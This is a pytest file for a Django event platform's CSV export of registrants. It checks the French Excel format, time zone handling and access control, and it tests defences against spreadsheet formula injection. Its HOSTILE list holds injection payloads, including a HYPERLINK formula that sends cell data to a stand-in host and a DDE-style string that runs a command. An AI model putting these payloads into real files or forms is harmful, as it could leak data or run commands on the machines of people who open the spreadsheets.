"""The registrants' CSV: UTF-8 with a BOM, semicolons for French Excel, one row per registration with
the answers in columns, and nothing a spreadsheet would run as a formula."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from community.groups.services import add_member
from events import export, services
from events.models import Registration
from tests.community.factories import CentreFactory, UserFactory
from tests.events.factories import make_event

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("quiet_channels")]

HOSTILE = [
    '=HYPERLINK("http://exemple.test/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def member_of(group, **fields):
    person = UserFactory(**fields)
    add_member(group, person)
    return person


def download(client, event):
    response = client.get(event.url + "organisation/export-csv/")
    assert response.status_code == 200
    return response


def rows_of(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark first"
    return list(csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_starts_with_an_apostrophe(value):
    assert export.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Repas végétarien", "3 personnes", "", None, 12, "a=b", "x-y", "mail@exemple.test"])
def test_neutralise_leaves_ordinary_text_alone(value):
    assert export.neutralise(value) == ("" if value is None else str(value))


def test_the_export_is_a_french_excel_csv_with_answers_in_columns(client, group, animator):
    event = make_event(
        "Journée de la Réunion",
        group=group,
        tz="Indian/Reunion",
        capacity=1,
        questions=[
            {"label": "Présence", "type": "choice", "choices": "Sur place\nÀ distance"},
            {"label": "Ateliers", "type": "multiple", "choices": "Écoute\nPostvention\nSupervision"},
            {"label": "Besoins d'accessibilité", "type": "text", "accessibility": True},
        ],
    )
    presence_q, workshops_q, needs_q = event.ordered_questions
    centre = CentreFactory(name="Centre de Saint-Denis")
    first = member_of(group, first_name="Léa", last_name="Payet", centre=centre, role="cadre")
    second = member_of(group, first_name="Noé", last_name="Hoarau")
    services.register(
        event,
        first,
        {
            str(presence_q.pk): "Sur place",
            str(workshops_q.pk): ["Écoute", "Supervision"],
            str(needs_q.pk): "Rampe d'accès",
        },
    )
    services.register(event, second, {str(presence_q.pk): "À distance"}, by=animator)
    Registration.objects.filter(member=first).update(created_at=datetime(2026, 12, 1, 8, 30, tzinfo=ZoneInfo("UTC")))
    services.set_attendance(event, animator, Registration.objects.get(member=first), True)

    client.force_login(animator)
    response = download(client, event)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="inscriptions-journee-de-la-reunion.csv"'
    header, *rows = rows_of(response)
    assert header == [
        "État",
        "Position en liste d'attente",
        "Nom",
        "Prénom",
        "Adresse e-mail",
        "Centre",
        "Rôle",
        "Inscription (heure de La Réunion)",
        "Inscrit·e par",
        "Présence",
        "Présence",
        "Ateliers",
        "Besoins d'accessibilité",
    ]
    assert rows == [
        [
            "Inscrit·e",
            "",
            "Payet",
            "Léa",
            first.email,
            "Centre de Saint-Denis",
            "Cadre de santé",
            "2026-12-01 12:30",  # 8 h 30 UTC is 12 h 30 at La Réunion
            "",
            "présent·e",
            "Sur place",
            "Écoute, Supervision",
            "Rampe d'accès",
        ],
        [
            "En liste d'attente",
            "1",
            "Hoarau",
            "Noé",
            second.email,
            second.centre.name,
            "Répondant·e",
            rows[1][7],
            animator.display_name,
            "",
            "À distance",
            "",
            "",
        ],
    ]
    assert response.content.count(b"\r\n") == 3  # Excel's line ends


def test_hostile_answers_and_names_are_neutralised_in_the_file(client, group, animator):
    event = make_event("Réunion", group=group, questions=[{"label": "=Question", "type": "text"}])
    (question,) = event.ordered_questions
    for number, value in enumerate(HOSTILE):
        person = member_of(group, first_name=value, last_name=f"Membre {number}")
        services.register(event, person, {str(question.pk): value})

    client.force_login(animator)
    header, *rows = rows_of(download(client, event))

    assert header[-1] == "'=Question"
    by_name = {row[2]: row for row in rows}
    for number, value in enumerate(HOSTILE):
        row = by_name[f"Membre {number}"]
        # services keep answers stripped: the tab and CR starts survive only in the name.
        assert row[3] == "'" + value
        assert row[-1].startswith("'") and row[-1][1:] == value.strip()
    for row in rows:
        for cell in row:
            assert not cell.startswith(export.FORMULA_STARTS), cell


def test_the_export_answers_404_to_members(client, group):
    event = make_event("Réunion", group=group)
    member = member_of(group)
    client.force_login(member)
    assert client.get(event.url + "organisation/export-csv/").status_code == 404
